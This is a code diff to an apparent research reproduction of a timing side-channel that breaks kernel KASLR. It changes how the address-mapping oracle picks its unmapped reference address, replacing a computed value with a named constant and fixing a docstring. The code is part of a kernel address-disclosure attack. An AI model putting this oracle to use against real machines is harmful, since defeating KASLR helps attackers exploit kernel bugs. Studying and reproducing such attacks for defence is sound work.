@@ -30,7 +30,7 @@ from typing import Dict, List, Optional
 
 from repro.kernel.layout import (
     KASLR_SLOTS,
-    KERNEL_TEXT_RANGE_START,
+    KASLR_UNMAPPED_REFERENCE,
     KPTI_TRAMPOLINE_OFFSET,
     slot_base,
 )
@@ -124,10 +124,10 @@ class TetKaslr:
         """The boolean oracle: is *va* mapped?
 
         Compares the candidate's double-probe ToTE against a known
-        unmapped reference address (default: the top of the KASLR range,
-        which no kernel maps)."""
+        unmapped reference address (default: the slot just below the
+        KASLR range, which no kernel maps)."""
         if reference_unmapped is None:
-            reference_unmapped = KERNEL_TEXT_RANGE_START - 0x200000
+            reference_unmapped = KASLR_UNMAPPED_REFERENCE
         candidate = self.probe_tote(va)
         reference = self.probe_tote(reference_unmapped)
         return candidate + 4 < reference
@@ -166,9 +166,7 @@ class TetKaslr:
         else:
             # Warm the gadget's code paths so slot 0 is not an outlier.
             for _ in range(3):
-                self.probe_tote(
-                    KERNEL_TEXT_RANGE_START - 0x200000, cr3_switch=cr3_switch
-                )
+                self.probe_tote(KASLR_UNMAPPED_REFERENCE, cr3_switch=cr3_switch)
             totes = {}
             for slot in range(KASLR_SLOTS):
                 va = slot_base(slot) + offset
